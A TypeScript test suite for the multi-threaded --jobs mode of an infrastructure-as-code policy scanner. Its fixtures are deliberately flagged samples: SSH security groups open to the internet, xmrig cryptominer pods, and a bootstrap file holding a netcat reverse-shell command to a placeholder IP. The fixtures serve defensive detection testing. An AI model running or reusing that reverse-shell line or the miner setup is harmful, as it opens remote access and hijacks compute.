import * as assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parseArgs, UsageError } from '../../../src/cli/args';
import { main, type CliStream } from '../../../src/cli/main';
import { scanFiles } from '../../../src/cli/scan-files';
import type { FileScanner } from '../../../src/cli/scan-one';
import { Worker } from 'node:worker_threads';
import type { BatchRequest, BatchResponse, WorkerSetup } from '../../../src/cli/worker';
import { scanInThreads } from '../../../src/cli/worker-pool';
import { Engine } from '../../../src/engine/index';
import { createNodeHost } from '../../../src/platform/node-host';

/**
 * `--jobs N` scans on worker threads, each with its own engine. Whatever the number of threads,
 * the report must be the same, byte for byte, as from one thread: CI compares reports, and SARIF
 * uploads are diffed run to run.
 */

class Buffered implements CliStream {
	text = '';
	write(chunk: string): boolean {
		this.text += chunk;
		return true;
	}
}

const SSH = (n: number): string => `resource "aws_security_group" "bastion_${n}" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`;
const MINER = (n: number): string => `apiVersion: v1\nkind: Pod\nmetadata:\n  name: miner-${n}\nspec:\n  containers:\n    - name: m\n      image: xmrig/xmrig:${n}\n`;
const CLEAN = 'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-logs"\n}\n';
const SUPPRESSED = `# aup-guard-ignore AUP-NET-001: bastion behind the VPN's NACL\n${SSH(99)}`;

describe('cli --jobs', function () {
	// Each thread loads the engine and its grammar: room for a busy machine, not a speed limit.
	this.timeout(60_000);
	let root: string;

	before(async () => {
		root = await mkdtemp(path.join(tmpdir(), 'aup-jobs-'));
		// Enough files for threads to start (50 a thread) and take several batches each, in nested
		// folders, with every kind of outcome.
		for (let n = 0; n < 60; n++) {
			const folder = path.join(root, `stack-${n % 7}`);
			await mkdir(folder, { recursive: true });
			await writeFile(path.join(folder, `sg-${n}.tf`), n % 3 === 0 ? CLEAN : SSH(n));
			await writeFile(path.join(folder, `pod-${n}.yaml`), MINER(n));
		}
		await writeFile(path.join(root, 'suppressed.tf'), SUPPRESSED);
		await writeFile(path.join(root, 'broken.tf'), 'resource "aws_instance" "x" {\n  ami = \n');
		await writeFile(path.join(root, 'blob.tf'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1]));
		await writeFile(path.join(root, 'huge.tf'), SSH(0).repeat(200));
		await writeFile(path.join(root, 'README.md'), '# not IaC\n');
		// A script only a Terraform file says is one: the thread that scans the Terraform finds it.
		await writeFile(path.join(root, 'stack-0', 'workers.tf'), 'resource "aws_instance" "w" {\n  user_data = file("../bootstrap")\n}\n');
		await writeFile(path.join(root, 'bootstrap'), 'nc -e /bin/sh 203.0.113.9 4444\n');
	});

	after(async () => {
		await rm(root, { recursive: true, force: true });
	});

	async function run(...argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
		const stdout = new Buffered();
		const stderr = new Buffered();
		const code = await main(argv, { stdout, stderr, cwd: root, env: {} });
		return { code, stdout: stdout.text, stderr: stderr.text };
	}

	it('reads --jobs as a positive whole number and rejects anything else', () => {
		const jobsOf = (...argv: string[]): number | undefined => {
			const args = parseArgs(['scan', ...argv]);
			assert.ok(args.command === 'scan');
			return args.jobs;
		};
		assert.equal(jobsOf('--jobs', '3'), 3);
		assert.equal(jobsOf('--jobs=1'), 1);
		assert.equal(jobsOf(), undefined);
		for (const bad of ['0', '-1', '1.5', 'all']) {
			assert.throws(() => jobsOf(`--jobs=${bad}`), (error: unknown) => error instanceof UsageError && /--jobs must be a positive whole number/.test(error.message), bad);
		}
	});

	for (const format of ['json', 'sarif', 'text']) {
		it(`prints the same ${format} report with --jobs 1 and --jobs 3`, async () => {
			const common = ['scan', '.', '--format', format, '--max-file-size', '4096', '--show-suppressed', '--no-color'];
			const one = await run(...common, '--jobs', '1');
			const three = await run(...common, '--jobs', '3');
			// The miners are errors, so both fail the default gate.
			assert.equal(one.code, 1, one.stderr);
			assert.deepEqual(three, one);
			assert.ok(one.stdout.length > 1000);
			assert.match(one.stdout, /AUP-ATK-001/);
		});
	}

	it('applies organisation rules and --rule-option on every thread', async () => {
		const rulesFile = path.join(root, '..', `${path.basename(root)}-rules.yaml`);
		await writeFile(rulesFile, `version: 1
rules:
  - id: ACME-IMG-001
    title: Images from Docker Hub's xmrig namespace
    message: "{value} comes from a namespace our registry policy blocks"
    severity: error
    aupSection: 3
    category: mining
    match: { strings: { regex: "^xmrig/" } }
overrides:
  AUP-NET-001: error
`);
		try {
			const common = ['scan', '.', '--format', 'json', '--rules', rulesFile, '--rule-option', 'AUP-CST-001.maxInstances=5'];
			const one = await run(...common, '--jobs', '1');
			const three = await run(...common, '--jobs', '3');
			assert.deepEqual(three, one);
			const findings = (JSON.parse(one.stdout) as { findings: { ruleId: string; severity: string }[] }).findings;
			assert.equal(findings.filter(finding => finding.ruleId === 'ACME-IMG-001').length, 60, 'the organisation rule flags every pod');
			assert.ok(findings.filter(finding => finding.ruleId === 'AUP-NET-001').every(finding => finding.severity === 'error'), 'the override applies');
		} finally {
			await rm(rulesFile, { force: true });
		}
	});

	it('reports every file once, in path order, as one thread does', async () => {
		const files = ['broken.tf', 'blob.tf', 'huge.tf', 'README.md', 'suppressed.tf']
			.map(name => ({ path: path.join(root, name), explicit: name === 'README.md' }));
		for (let n = 59; n >= 0; n--) {
			files.push({ path: path.join(root, `stack-${n % 7}`, `pod-${n}.yaml`), explicit: false });
			files.push({ path: path.join(root, `stack-${n % 7}`, `sg-${n}.tf`), explicit: false });
		}
		const engine = new Engine(createNodeHost());
		try {
			const options = { cwd: root, maxFileSize: 4096 };
			const one = await scanFiles(engine, files, options);
			const threads = await scanFiles(engine, files, { ...options, jobs: 2 });
			assert.deepEqual(threads, one);
			assert.equal(one.files.length, 124);
			assert.deepEqual(one.warnings, ['README.md: not a recognised IaC format, skipped']);
			const paths = one.files.map(file => file.path);
			assert.deepEqual(paths, [...paths].sort((a, b) => a < b ? -1 : a > b ? 1 : 0));
		} finally {
			engine.dispose();
		}
	});

	it('hands out batches to whichever thread is free and puts the answers back in order', async () => {
		const targets = Array.from({ length: 40 }, (_, n) => {
			const file = n % 2 === 0 ? `sg-${n}.tf` : `pod-${n}.yaml`;
			return { file: { path: path.join(root, `stack-${n % 7}`, file), explicit: false }, display: file };
		});
		const engine = new Engine(createNodeHost());
		try {
			const outcomes = await scanInThreads(targets, { jobs: 4, cwd: root, maxFileSize: 4096, concurrency: 2, batchSize: 2 }, engine);
			assert.deepEqual(outcomes.map(outcome => outcome.report?.path), targets.map(target => target.display));
			// Security groups: every third is clean; pods: each runs a miner (AUP-MIN-001 and AUP-MIN-002 at least).
			outcomes.forEach((outcome, n) => {
				const count = outcome.report?.findings.length ?? -1;
				if (n % 2 === 0) {
					assert.equal(count, n % 3 === 0 ? 0 : 1, targets[n].display);
				} else {
					assert.ok(count >= 1, targets[n].display);
				}
			});
		} finally {
			engine.dispose();
		}
	});

	it('scans Terraform files whole on the workers once parsed ones pile up behind a busy main thread', async () => {
		const targets = Array.from({ length: 30 }, (_, n) => ({ file: { path: path.join(root, `stack-${n % 7}`, `sg-${n}.tf`), explicit: false }, display: `sg-${n}.tf` }));
		const engine = new Engine(createNodeHost());
		const fromParsed: string[] = [];
		const here: FileScanner = {
			formatOf: (file, text) => engine.formatOf(file, text),
			forget: file => engine.forget(file),
			scan: async (input, scanOptions) => {
				if (input.prepared) {
					fromParsed.push(input.path);
				}
				// A main thread slower than any worker: parsed files would pile up without a limit.
				await new Promise(resolve => setTimeout(resolve, 15));
				return engine.scan(input, scanOptions);
			},
		};
		try {
			const outcomes = await scanInThreads(targets, { jobs: 2, cwd: root, maxFileSize: 4096, concurrency: 1, batchSize: 1, maxPreparedAhead: 2 }, here);
			assert.deepEqual(outcomes.map(outcome => outcome.report?.findings.length), targets.map((_, n) => n % 3 === 0 ? 0 : 1));
			assert.ok(fromParsed.length > 0, 'the worker parsed some files ahead');
			assert.ok(fromParsed.length <= 10, `at most a few files waited parsed; ${fromParsed.length} did`);
		} finally {
			engine.dispose();
		}
	});

	it('has a worker parse Terraform files ahead, leaving the rules to the main thread', async () => {
		const setup: WorkerSetup = { aupGuardScanWorker: true, cwd: root, maxFileSize: 4096, concurrency: 2, scanner: {} };
		const worker = new Worker(path.resolve(__dirname, '../../../src/cli/worker.js'), { workerData: setup });
		try {
			const targets = ['sg-1.tf', 'broken.tf', 'huge.tf', 'missing.tf'].map(name => ({ file: { path: path.join(root, name === 'sg-1.tf' ? 'stack-1' : '', name), explicit: false }, display: name }));
			const request: BatchRequest = { id: 7, kind: 'prepare', targets };
			const response = await new Promise<BatchResponse>((resolve, reject) => {
				worker.once('message', resolve);
				worker.once('error', reject);
				worker.postMessage(request);
			});
			assert.equal(response.id, 7);
			assert.ok(response.kind === 'prepare');
			const [clean, broken, huge, missing] = response.prepared;
			assert.equal(clean.read.kind, 'text');
			assert.ok(clean.prepared && clean.prepared.tree.count > 5, 'a syntax tree came back');
			assert.ok(clean.prepared.tree.kinds instanceof Uint8Array);
			// A half-typed file still parses, and its tree says where it went wrong.
			assert.ok(broken.prepared?.tree.problem);
			assert.equal(huge.read.kind, 'too-large');
			assert.equal(huge.prepared, undefined);
			assert.equal(missing.read.kind, 'unreadable');

			// The main thread finishes the scan from the tree: the same result as a scan of its own.
			const engine = new Engine(createNodeHost());
			try {
				assert.ok(clean.read.kind === 'text');
				const input = { path: 'sg-1.tf', text: clean.read.text };
				assert.deepEqual(await engine.scan({ ...input, prepared: clean.prepared }, { fixes: false }), await engine.scan(input, { fixes: false }));
			} finally {
				engine.dispose();
			}
		} finally {
			await worker.terminate();
		}
	});
});
